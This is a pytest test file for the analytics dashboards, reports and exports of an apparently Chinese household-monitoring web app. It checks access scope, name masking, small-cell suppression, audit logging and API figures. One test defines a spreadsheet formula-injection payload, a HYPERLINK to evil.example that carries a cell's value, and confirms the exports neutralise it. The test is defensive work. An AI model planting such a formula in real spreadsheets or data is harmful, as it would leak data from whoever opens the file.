"""Dashboards, drill-down, reports and exports: read the indicator table, respect scope, masking, small cells."""

from __future__ import annotations

import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from fangpin.analytics.models import ExportJob, RegionalAlert
from fangpin.analytics.refresh import refresh_month
from fangpin.cli import main

from .factory import at, case, monitored_via_warning

A, B = "360722100200", "360722101200"


@pytest.fixture
def indicators(world: object) -> None:
    for day in ("02", "03", "04", "05", "06", "07"):
        monitored_via_warning(A, found=f"2026-10-{day}", decided=f"2026-10-{int(day) + 8:02d}", income=6000)
    monitored_via_warning(B, found="2026-10-05", decided="2026-10-15")
    refresh_month("2026-10", now=at("2026-11-05"))


def test_the_county_dashboard_reads_only_the_indicator_table(indicators: None, client_for) -> None:
    client = client_for("wang_county")
    with CaptureQueriesContext(connection) as queries:
        page = client.get("/analytics/region/360722/?month=2026-10")
    assert page.status_code == 200
    html = page.content.decode()
    assert 'data-testid="kpi-monitored_households">7<' in html
    assert "嘉定镇" in html and "大塘埠镇" in html  # the townships below, with drill-down links
    sql = " ".join(q["sql"] for q in queries.captured_queries)
    assert "analytics_indicator" in sql
    assert "cases_case" not in sql and "warnings_lead" not in sql
    assert 'id="chart-data"' in html and "vendor/echarts/echarts.min.js" in html


def test_the_menu_leads_to_the_users_own_area(indicators: None, client_for) -> None:
    response = client_for("zhang_township").get("/analytics/")
    assert response.status_code == 302 and response["Location"] == "/analytics/region/360722100/"


def test_drilling_out_of_scope_is_a_404(indicators: None, client_for, audit_rows) -> None:
    client = client_for("zhang_township")
    assert client.get("/analytics/region/360722100/").status_code == 200
    assert client.get(f"/analytics/region/{A}/").status_code == 200
    assert client.get("/analytics/region/360722/").status_code == 404
    assert client.get(f"/analytics/region/{B}/").status_code == 404
    assert len(audit_rows("ACCESS_DENIED", actor_username="zhang_township")) == 2


def test_small_cells_are_suppressed_in_the_publication_report_only(indicators: None, client_for) -> None:
    client = client_for("wang_county")
    internal = client.get("/analytics/region/360722/report/?month=2026-10").content.decode()
    public = client.get("/analytics/region/360722/report/?month=2026-10&public=1").content.decode()
    # 大塘埠镇 has one monitored household: shown inside, "<5" in the version for publication
    row_internal = internal.split("大塘埠镇</td>")[1].split("</tr>")[0]
    row_public = public.split("大塘埠镇</td>")[1].split("</tr>")[0]
    assert ">1<" in row_internal and "&lt;5" not in row_internal
    assert "&lt;5" in row_public and ">1<" not in row_public


def test_the_monthly_report_workbook_has_every_table(indicators: None, client_for, audit_rows) -> None:
    response = client_for("wang_county").get(
        "/analytics/region/360722/report.xlsx?month=2026-10&purpose=statistics"
    )
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == ["概况", "下级区划指标", "分组指标", "月度趋势", "说明"]
    summary = {row[0]: row[1] for row in book["概况"].iter_rows(min_row=2, values_only=True)}
    assert summary["监测户数"] == 7 and summary["系统预警发现的监测户占比"] == 100.0
    towns = [row[:3] for row in book["下级区划指标"].iter_rows(min_row=2, values_only=True)]
    assert ("360722100", "嘉定镇", 6) in towns
    assert audit_rows("ANALYTICS_EXPORTED", actor_username="wang_county")


def test_the_household_list_is_masked_and_exported_in_the_background(indicators: None, client_for) -> None:
    client = client_for("zhang_township")
    page = client.get(f"/analytics/region/{A}/households/").content.decode()
    assert "测*0" in page and "测试0" not in page
    response = client.post(f"/analytics/region/{A}/export/", {"purpose": "statistics"})
    job = ExportJob.objects.get()
    assert response["Location"] == f"/analytics/exports/{job.pk}/"
    assert job.status == "done" and job.done == job.total == 6
    status = client.get(f"/analytics/exports/{job.pk}/", headers={"HX-Request": "true"}).content.decode()
    assert "6 / 6" in status and "下载" in status
    book = load_workbook(io.BytesIO(client.get(f"/analytics/exports/{job.pk}/download/").content))
    rows = list(book.active.iter_rows(min_row=2, values_only=True))
    assert len(rows) == 6 and all(r[2] == "测*0" for r in rows)
    assert client_for("wang_county").get(f"/analytics/exports/{job.pk}/download/").status_code == 404


def test_the_household_list_leaves_out_eliminated_households_and_costs_the_same_queries_for_more_rows(
    indicators: None, client_for
) -> None:
    from fangpin.cases.models import Case

    client = client_for("zhang_township")
    client.get("/")  # the session records its activity (a write, once a minute) before the counts
    with CaptureQueriesContext(connection) as before:
        page = client.get(f"/analytics/region/{A}/households/").content.decode()
    assert "（6 户）" in page
    first = Case.objects.filter(village_id=A, kind="identification").order_by("pk").first()
    assert first is not None
    case(A, first.household, kind="elimination", state="eliminated", identification=first, found="2026-10-20")
    for day in ("08", "09", "10", "11"):
        monitored_via_warning(A, found=f"2026-10-{day}", decided="2026-10-20")
    with CaptureQueriesContext(connection) as after:
        page = client.get(f"/analytics/region/{A}/households/").content.decode()
    assert "（9 户）" in page and first.household.household_no not in page
    assert page.count("测*0") == 9  # every row has its (masked) head of household

    assert len(after.captured_queries) == len(before.captured_queries)  # heads are not read row by row


def test_a_regional_alert_lists_only_the_households_in_the_viewers_scope(
    indicators: None, client_for
) -> None:
    from fangpin.registry.models import Household

    numbers = list(Household.objects.values_list("household_no", flat=True))
    alert = RegionalAlert.objects.create(
        as_of="2026-10",
        centre=A,
        county="360722",
        villages=[A, B],
        start="2026-10",
        end="2026-10",
        observed=12,
        expected=2.0,
        relative_risk=6.5,
        llr=12.0,
        p_value=0.001,
        radius_km=3.2,
        cause="因灾 90%（数据来源：应急管理·灾情）",
        households=numbers,
    )
    page = client_for("zhang_township").get(f"/analytics/alerts/{alert.pk}/").content.decode()
    in_a = [n for n in numbers if n.startswith(A)]
    in_b = [n for n in numbers if n.startswith(B)]
    assert all(n in page for n in in_a) and not any(n in page for n in in_b)
    assert "另有 3 户不在您的管辖范围" in page  # two in township B, one in county C
    listing = client_for("wang_county").get("/analytics/alerts/").content.decode()
    assert "因灾 90%" in listing and 'id="alert-data"' in listing


def test_the_refresh_command_checks_its_month_and_reports(world: object, capsys) -> None:
    assert main(["analytics", "refresh", "--month", "2026-13"]) == 2
    assert "YYYY-MM" in capsys.readouterr().err
    assert main(["analytics", "refresh", "--month", "2026-10"]) == 0
    assert "2026-10" in capsys.readouterr().out


def test_the_api_gives_the_same_figures_within_scope(indicators: None, client_for) -> None:
    data = client_for("wang_county").get("/api/v1/analytics/regions/360722?month=2026-10").json()
    figures = {(f["code"], f["dimension"]): f for f in data["figures"]}
    assert data["month"] == "2026-10" and figures[("monitored_households", "")]["value"] == 7
    assert (
        figures[("found_by_system_share", "")]["value"] == 100.0
        and figures[("found_by_system_share", "")]["unit"] == "%"
    )
    assert client_for("zhang_township").get("/api/v1/analytics/regions/360722").status_code == 404
    assert client_for("xiao_grid").get("/api/v1/analytics/regions/360722100200").status_code == 403


HOSTILE = '=HYPERLINK("http://evil.example/?id="&A2,"x")'


def _inert(cell) -> bool:
    return cell.data_type != "f" and str(cell.value).startswith("'=")


def test_formulas_in_names_are_inert_in_every_table_export(indicators: None, client_for) -> None:
    """Formula injection (issue #14.4): the monthly report, the household list (xlsx, csv, background)."""
    import csv

    from fangpin.regions.models import Region
    from fangpin.registry.models import Person

    Region.objects.filter(prefix__in=["360722100", A]).update(name=HOSTILE)
    Person.objects.filter(name="测试0").update(name=HOSTILE)  # masked in the list: still starts with "="
    report = load_workbook(
        io.BytesIO(
            client_for("wang_county")
            .get("/analytics/region/360722/report.xlsx?month=2026-10&purpose=statistics")
            .content
        )
    )
    town = next(r for r in report["下级区划指标"].iter_rows(min_row=2) if r[0].value == "360722100")
    assert _inert(town[1]) and town[2].value == 6 and town[2].data_type == "n"
    client = client_for("zhang_township")
    listed = load_workbook(
        io.BytesIO(
            client.get(
                f"/analytics/region/{A}/table/households.xlsx?month=2026-10&purpose=statistics"
            ).content
        )
    )
    first = next(listed.active.iter_rows(min_row=2))
    assert _inert(first[1]) and _inert(first[2])
    text = client.get(
        f"/analytics/region/{A}/table/households.csv?month=2026-10&purpose=statistics"
    ).content.decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(text)))[1]
    assert row[1] == "'" + HOSTILE and row[2].startswith("'=")
    client.post(f"/analytics/region/{A}/export/", {"purpose": "statistics"})
    job = ExportJob.objects.get()
    background = load_workbook(io.BytesIO(client.get(f"/analytics/exports/{job.pk}/download/").content))
    assert all(_inert(r[1]) and _inert(r[2]) for r in background.active.iter_rows(min_row=2))


def test_queuing_a_household_export_is_audited_with_its_job_and_purpose(
    indicators: None, client_for, audit_rows
) -> None:
    client_for("zhang_township").post(f"/analytics/region/{A}/export/", {"purpose": "statistics"})
    job = ExportJob.objects.get()
    (row,) = audit_rows("ANALYTICS_EXPORT_REQUESTED")
    assert row.actor_username == "zhang_township" and row.object_id == A
    assert row.data["job"] == job.pk and row.data["table"] == "households"
    assert row.data["purpose"] == "statistics"
    # the background build, queued once the job row was committed, is audited as the export itself
    (done,) = audit_rows("ANALYTICS_EXPORTED")
    assert done.data["job"] == job.pk and done.id > row.id
